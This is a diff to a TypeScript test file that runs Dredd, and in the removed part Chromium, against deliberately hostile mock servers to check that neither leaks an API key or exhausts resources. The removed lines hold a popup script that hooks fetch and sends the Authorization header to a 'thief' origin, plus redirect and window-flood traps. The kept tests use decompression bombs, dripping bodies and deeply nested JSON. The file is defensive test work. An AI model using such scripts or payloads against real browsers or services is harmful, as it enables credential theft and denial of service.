@@ -1,7 +1,7 @@
 import { spawn } from 'node:child_process';
 import type { IncomingMessage, RequestListener } from 'node:http';
 import { join } from 'node:path';
-import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { afterEach, beforeEach, expect, it } from 'vitest';
 import { TESTED_BIN } from '../../proof/tested-bin.ts';
 import { useSandbox } from '../support/counterproof.ts';
 import {
@@ -9,18 +9,14 @@ import {
   compressedBomb,
   drippingBody,
   drippingHeaders,
-  endlessAttachment,
   endlessBody,
   endlessHeaders,
   endlessProcessing,
-  type Front,
   hostileFront,
-  redirect,
-  started,
-} from '../support/hostile-servers.ts';
-import { messageOf, outcomesOf, type Traces, traceFrom, type Visited, visit } from './visit.ts';
+} from '../support/odd-servers.ts';
+import { messageOf, outcomesOf, type Traces, traceFrom, visit } from './visit.ts';
 
-/** Deployments that attack the real Dredd and the real Chromium. */
+/** Deployments that attack the real Dredd: what is said of them. Those that attack Chromium are rows of `proof/hostile/drivers.ts`. */
 const sandbox = await useSandbox();
 const key = sandbox.keys.good;
 let traces: Traces;
@@ -36,170 +32,53 @@ const PATIENT_MS = 15_000;
 /** A few timeouts, and starting a driver on a busy machine. */
 const DEADLINE_S = 200;
 const DISK_MB = 100;
+const DREDD_MB = 400;
 
-interface Attacked extends Visited {
-  readonly seconds: number;
-}
+const LARGE = /a body larger than 32 MB was not read/;
+const LATE = /no complete answer within 1 s/;
 
-async function attack(
-  area: 'dredd' | 'browser',
-  isMeant: (request: IncomingMessage) => boolean,
-  answer: RequestListener,
-  timeoutMs = TIMEOUT_MS,
-): Promise<Attacked> {
+const isDredd = ({ headers }: IncomingMessage) => String(headers['user-agent']).startsWith('Dredd');
+const isSales = (request: IncomingMessage) => isDredd(request) && request.url?.includes('/sales') === true;
+
+/** Checks what is meant for Dredd with this answer; it ends soon and small, and leaves nothing behind. */
+async function attacked(isMeant: (request: IncomingMessage) => boolean, answer: RequestListener, timeoutMs: number) {
   const started = performance.now();
-  const front = hostileFront(isMeant, answer);
-  const visited = await visit(area, sandbox.handle, key, { front, timeoutMs });
-  return { ...visited, seconds: (performance.now() - started) / 1000 };
-}
-
-function expectNothingLeft({ written }: Attacked): void {
+  const { run, written } = await visit('dredd', sandbox.handle, key, {
+    front: hostileFront(isMeant, answer),
+    timeoutMs,
+  });
+  expect((performance.now() - started) / 1000).toBeLessThan(DEADLINE_S);
+  expect(traces.peakMegabytes()).toBeLessThan(DREDD_MB);
   expect(traces.processes()).toEqual([]);
   expect(traces.files()).toEqual([]);
   expect(traces.diskMegabytes()).toBeLessThan(DISK_MB);
   expect(written).not.toContain(key.slice(-20));
+  return run;
 }
 
-describe('Chromium', () => {
-  const CHROMIUM_MB = 700;
-
-  const isDocument = ({ url = '', headers }: IncomingMessage) =>
-    url.endsWith('/openapi.json') && 'sec-fetch-mode' in headers;
-  const isMe = ({ url = '', headers }: IncomingMessage) => url.endsWith('/me') && 'sec-fetch-mode' in headers;
-
-  /** Another origin, which no browser of ours has any business with. */
-  let thief: Front;
-  let visits: string[];
-
-  beforeEach(async () => {
-    visits = [];
-    thief = await started(({ url = '' }, response) => {
-      visits.push(url);
-      response.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' }).end(trap());
-    });
-  });
-  afterEach(() => thief.close());
-
-  /** A popup replaces what its opener fetches with, or leads it to where it can. */
-  function trap(): string {
-    return `<script>
-      const hook = (page) => {
-        if (page.hooked) return;
-        page.hooked = true;
-        page.fetch = (_, asked) => { new Image().src = '${thief.url}/got?' + asked.headers.Authorization; return new Promise(() => 0); };
-      };
-      if (opener === null) open(location.href);
-      else setInterval(() => {
-        try { hook(opener); } catch { opener.location = '${thief.url}/back'; }
-      }, 10);
-      hook(window);
-    </script>`;
-  }
-
-  /** So slow that there is time to lead a page away while it asks. */
-  function withSlowMe(answer: RequestListener): RequestListener {
-    return (request, response) => {
-      if (isMe(request)) setTimeout(() => body(() => '{"data":{}}')(request, response), 300);
-      else answer(request, response);
-    };
-  }
-
-  const traps: readonly (readonly [string, () => RequestListener])[] = [
-    ['a redirect to another origin whose popup leads its opener back', () => redirect(() => `${thief.url}/`)],
-    ['a page that opens such a popup itself', () => body(trap, 'text/html')],
-    [
-      'headers that send a page elsewhere',
-      () => (_, response) => {
-        const headers = { refresh: `0; url=${thief.url}/`, link: `<${thief.url}/a.js>; rel=preload; as=script` };
-        response.writeHead(200, { ...headers, 'content-type': 'text/html' }).end(trap());
-      },
-    ],
-    [
-      'a page that opens windows without end',
-      () => body(() => `<script>for (;;) open('${thief.url}/')</script>`, 'text/html'),
-    ],
-  ];
-
-  it.each(traps)('keeps the key from %s', async (_name, answer) => {
-    const isMeant = (request: IncomingMessage) => isDocument(request) || isMe(request);
-    const attacked = await attack('browser', isMeant, withSlowMe(answer()), PATIENT_MS);
-    expect(visits).toEqual([]);
-    expect(outcomesOf(attacked.run, 'browser')['browser-cross-origin-blocked']).toBe('passed');
-    expect(attacked.seconds).toBeLessThan(DEADLINE_S);
-    expectNothingLeft(attacked);
-  });
-
-  it('keeps the key where /me redirects to another origin', async () => {
-    const attacked = await attack(
-      'browser',
-      isMe,
-      redirect(() => `${thief.url}/me`),
-    );
-    expect(visits).toEqual([]);
-    expectNothingLeft(attacked);
-  });
-
-  const floods: readonly (readonly [string, RequestListener])[] = [
-    ['an endless attachment', endlessAttachment],
-    ['an endless body', endlessBody],
-    ['a body that bursts when it is decoded', compressedBomb],
-    ['a body that drips', drippingBody],
-    ['endless headers', endlessHeaders],
-    ['headers that drip', drippingHeaders],
-    ['answers that say "wait" without end', endlessProcessing],
-  ];
-
-  it.each(floods)('ends soon and small, for %s', async (_name, answer) => {
-    const attacked = await attack('browser', (request) => isDocument(request) || isMe(request), answer);
-    const outcomes = Object.values(outcomesOf(attacked.run, 'browser'));
-    expect(new Set(['passed', 'cantTell']).isSupersetOf(new Set(outcomes))).toBe(true);
-    expect(attacked.seconds).toBeLessThan(DEADLINE_S);
-    expect(traces.peakMegabytes()).toBeLessThan(CHROMIUM_MB);
-    expectNothingLeft(attacked);
-  });
+it.each<[name: string, answer: RequestListener, reason: RegExp, timeoutMs: number]>([
+  ['an endless body', endlessBody, LARGE, PATIENT_MS],
+  ['a body that bursts when it is decoded', compressedBomb, LARGE, PATIENT_MS],
+  ['a body that drips', drippingBody, LATE, TIMEOUT_MS],
+  ['endless headers', endlessHeaders, /Header overflow/, PATIENT_MS],
+  ['headers that drip', drippingHeaders, LATE, TIMEOUT_MS],
+  ['answers that say "wait" without end', endlessProcessing, LATE, TIMEOUT_MS],
+])('Dredd ends soon and small, with the reason, for %s', async (_name, answer, reason, timeoutMs) => {
+  const run = await attacked(isDredd, answer, timeoutMs);
+  expect(new Set(Object.values(outcomesOf(run, 'dredd')))).toEqual(new Set(['cantTell']));
+  expect(messageOf(run, 'dredd-served')).toMatch(reason);
 });
 
-describe('Dredd', () => {
-  const DREDD_MB = 400;
-  const LARGE = /a body larger than 32 MB was not read/;
-
-  const isDredd = ({ headers }: IncomingMessage) => String(headers['user-agent']).startsWith('Dredd');
-
-  const floods: readonly (readonly [name: string, answer: RequestListener, reason: RegExp, timeoutMs: number])[] = [
-    ['an endless body', endlessBody, LARGE, PATIENT_MS],
-    ['a body that bursts when it is decoded', compressedBomb, LARGE, PATIENT_MS],
-    ['a body that drips', drippingBody, /no complete answer within 1 s/, TIMEOUT_MS],
-    ['endless headers', endlessHeaders, /Header overflow/, PATIENT_MS],
-    ['headers that drip', drippingHeaders, /no complete answer within 1 s/, TIMEOUT_MS],
-    ['answers that say "wait" without end', endlessProcessing, /no complete answer within 1 s/, TIMEOUT_MS],
-  ];
-
-  it.each(floods)('ends soon and small, with the reason, for %s', async (_name, answer, reason, timeoutMs) => {
-    const attacked = await attack('dredd', isDredd, answer, timeoutMs);
-    expect(new Set(Object.values(outcomesOf(attacked.run, 'dredd')))).toEqual(new Set(['cantTell']));
-    expect(messageOf(attacked.run, 'dredd-served')).toMatch(reason);
-    expect(attacked.seconds).toBeLessThan(DEADLINE_S);
-    expect(traces.peakMegabytes()).toBeLessThan(DREDD_MB);
-    expectNothingLeft(attacked);
-  });
-
-  const large: readonly (readonly [string, () => string, RegExp])[] = [
-    ['a list of millions of wrong records', () => `{"data":[${'0,'.repeat(15e6)}0]}`, /listSales at \/data\/0:/],
-    ['a record of millions of values', () => `{"data":[[${'0,'.repeat(15e6)}0]]}`, /more than 60000 values/],
-    ['millions of levels', () => '['.repeat(15e6) + ']'.repeat(15e6), /more than 200 levels/],
-    ['megabytes that are not JSON', () => 'a'.repeat(31e6), /listSales at the top: the body is not JSON/],
-  ];
-
-  it.each(large)('ends soon and small, with the reason, for %s', async (_name, text, reason) => {
-    const isSales = (request: IncomingMessage) => isDredd(request) && request.url?.includes('/sales') === true;
-    const attacked = await attack('dredd', isSales, body(text), PATIENT_MS);
-    expect(Object.values(outcomesOf(attacked.run, 'dredd'))).not.toContain('error');
-    const messages = ['dredd-sales', 'dredd-envelope'].map((rule) => messageOf(attacked.run, rule));
-    expect(messages.join('\n')).toMatch(reason);
-    expect(attacked.seconds).toBeLessThan(DEADLINE_S);
-    expect(traces.peakMegabytes()).toBeLessThan(DREDD_MB);
-    expectNothingLeft(attacked);
-  });
+it.each<[string, () => string, RegExp]>([
+  ['a list of millions of wrong records', () => `{"data":[${'0,'.repeat(15e6)}0]}`, /listSales at \/data\/0:/],
+  ['a record of millions of values', () => `{"data":[[${'0,'.repeat(15e6)}0]]}`, /more than 60000 values/],
+  ['millions of levels', () => '['.repeat(15e6) + ']'.repeat(15e6), /more than 200 levels/],
+  ['megabytes that are not JSON', () => 'a'.repeat(31e6), /listSales at the top: the body is not JSON/],
+])('Dredd ends soon and small, with the reason, for %s', async (_name, text, reason) => {
+  const run = await attacked(isSales, body(text), PATIENT_MS);
+  expect(Object.values(outcomesOf(run, 'dredd'))).not.toContain('error');
+  const messages = ['dredd-sales', 'dredd-envelope'].map((rule) => messageOf(run, rule));
+  expect(messages.join('\n')).toMatch(reason);
 });
 
 it.each(['browser', 'dredd'])('leaves nothing behind when the check is killed, for %s', async (area) => {
